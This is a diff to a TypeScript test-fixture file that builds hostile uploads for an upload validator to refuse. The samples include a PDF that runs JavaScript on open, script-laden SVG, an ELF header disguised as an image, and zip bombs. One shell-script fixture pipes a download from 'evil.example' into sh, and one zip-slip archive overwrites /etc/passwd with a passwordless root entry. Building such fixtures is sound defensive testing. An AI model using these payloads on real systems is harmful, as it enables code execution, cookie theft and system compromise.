@@ -1,4 +1,6 @@
 import zlib from 'node:zlib';
+import { readZip } from '../src/lib/zip';
+import { buildZip, deflated, workbook, xlsxBomb, type RawEntry } from './zip-fixtures';
 
 /**
  * Files that uploads must refuse or accept, made here byte by byte (ADR 0019): what each pretends to be and what it
@@ -25,8 +27,14 @@ export function png(): Buffer {
   ]);
 }
 
-/** A minimal PDF with one page per entry of `pages`, each showing its lines of text (a real text layer). */
-export function pdf(pages: string[][], opts: { encrypt?: boolean; noText?: boolean } = {}): Buffer {
+/**
+ * A minimal PDF with one page per entry of `pages`, each showing its lines of text (a real text layer); `javascript`
+ * makes the catalog run it when the file is opened (/OpenAction /JavaScript).
+ */
+export function pdf(
+  pages: string[][],
+  opts: { encrypt?: boolean; noText?: boolean; javascript?: string } = {},
+): Buffer {
   const objects: string[] = [];
   const add = (body: string) => {
     objects.push(body);
@@ -47,7 +55,10 @@ export function pdf(pages: string[][], opts: { encrypt?: boolean; noText?: boole
     );
   }
   add(`<< /Type /Pages /Kids [${pageIds.map((p) => `${p} 0 R`).join(' ')}] /Count ${pageIds.length} >>`);
-  const catalog = add(`<< /Type /Catalog /Pages ${parent} 0 R >>`);
+  const action = opts.javascript
+    ? ` /OpenAction << /S /JavaScript /JS (${opts.javascript.replace(/[()\\]/g, '\\$&')}) >>`
+    : '';
+  const catalog = add(`<< /Type /Catalog /Pages ${parent} 0 R${action} >>`);
   const encrypt = opts.encrypt ? add('<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>') : null;
   let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
   const offsets: number[] = [];
@@ -70,3 +81,57 @@ export const svgWithScript = () =>
   Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
 /** Bytes that start like a PDF only after some junk. */
 export const notQuitePdf = () => Buffer.from('junk%PDF-1.4\n');
+
+/** A Linux executable (ELF header), renamed .png or .pdf by the tests. */
+export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0)]);
+/** A shell script: text, so a CSV reader sees a table without the expected columns. */
+export const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
+/** A real PDF cut in half: the magic bytes, no cross-reference table, no %%EOF. */
+export const truncatedPdf = () => {
+  const whole = pdf([['CEDOLINO PAGA', 'ROSSI MARIO']]);
+  return whole.subarray(0, Math.floor(whole.length / 2));
+};
+/** A PDF that runs JavaScript when opened. */
+export const pdfWithJavaScript = () => pdf([['CIRCOLARE']], { javascript: 'app.alert(document.cookie)' });
+
+/** `size` bytes that start as `head` (a real file's first bytes) and go on with filler: over a limit by its size only. */
+export function padded(head: Buffer, size: number): Buffer {
+  const out = Buffer.alloc(size, 0x20);
+  head.copy(out, 0, 0, Math.min(head.length, size));
+  return out;
+}
+
+/** The entries of a small real workbook, each deflated again honestly under the name `rename` gives it. */
+async function renamedWorkbook(rename: (name: string) => string, extra: RawEntry[] = []): Promise<Buffer> {
+  const base = await workbook(['Nome', 'Cognome', 'Email', 'Codice fiscale'], [['Mario', 'Rossi', 'x@y.it', '-']]);
+  const entries = readZip(base, { maxTotalBytes: 10 * 1024 * 1024, maxEntries: 100 });
+  return buildZip([...entries.map((e) => deflated(rename(e.name), e.data)), ...extra]);
+}
+
+/**
+ * Archives that a spreadsheet upload (an XLSX is a ZIP) must refuse, each a few KB (ADR 0016: our own bounded reader,
+ * 20 MiB inflated in all, 500 entries at most, no duplicate names). The bombs inflate to 32 MiB (over the 20 MiB bound)
+ * from about 32 KB: a ratio of about 1000.
+ */
+export const hostileZips = {
+  /** Honest headers: refused on the declared sizes, before inflating. */
+  bomb: () => xlsxBomb(32 * 1024 * 1024),
+  /** Headers that claim 4 KB: refused while inflating, at the bound. */
+  lyingBomb: () => xlsxBomb(32 * 1024 * 1024, 4096),
+  /** Zip slip: every part of the workbook under `../../`, and an /etc/passwd to overwrite. */
+  traversal: () =>
+    renamedWorkbook((n) => `../../${n}`, [deflated('../../../../../../etc/passwd', 'root::0:0::/root:/bin/sh\n')]),
+  /** Absolute names, Unix and Windows. */
+  absolute: () =>
+    renamedWorkbook((n) => `/${n}`, [deflated('C:\\Windows\\System32\\drivers\\etc\\hosts', '127.0.0.1 x')]),
+  /** A workbook inside a ZIP inside a ZIP: nothing is unpacked twice. */
+  nested: async () => {
+    const inner = buildZip([deflated('dipendenti.xlsx', await renamedWorkbook((n) => n))]);
+    return buildZip([deflated('archivio.zip', inner)]);
+  },
+  /** One entry over the 500 allowed. */
+  tooManyEntries: () => buildZip(Array.from({ length: 501 }, (_, i) => deflated(`xl/media/image${i}.png`, png()))),
+  /** Two entries with one name (a later one would silently replace the sheet that was checked). */
+  duplicateNames: () =>
+    renamedWorkbook((n) => n, [deflated('xl/worksheets/sheet1.xml', '<worksheet><sheetData/></worksheet>')]),
+};
